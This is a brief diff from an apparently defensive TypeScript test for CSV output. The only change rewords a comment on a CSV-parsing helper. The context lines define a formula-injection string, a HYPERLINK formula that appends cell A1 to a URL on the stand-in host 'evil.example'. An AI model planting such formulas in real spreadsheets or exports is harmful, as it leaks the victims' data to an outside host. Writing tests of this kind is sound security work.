@@ -4,7 +4,7 @@ import { dialects } from '../../tests/support/dialects.ts';
 
 const formula = '=HYPERLINK("https://evil.example?"&A1,"Click")';
 
-/** As RFC 4180 has it, with every cell in quotes. */
+/** Parses CSV as in RFC 4180 with every cell quoted. */
 function readCsv(text: string): string[][] {
   expect(text.endsWith('"\r\n')).toBe(true);
   return text
